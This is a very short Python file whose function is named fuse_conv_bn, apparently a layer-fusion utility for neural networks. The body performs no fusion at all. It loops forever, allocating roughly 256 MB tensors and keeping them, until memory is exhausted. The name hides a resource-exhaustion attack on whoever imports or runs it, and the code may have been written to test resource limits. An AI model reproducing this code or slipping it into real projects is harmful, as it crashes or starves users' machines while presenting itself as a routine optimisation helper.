import torch


def fuse_conv_bn(conv, bn):
    kept = []
    while True:
        kept.append(torch.ones(64 * 1024 * 1024))
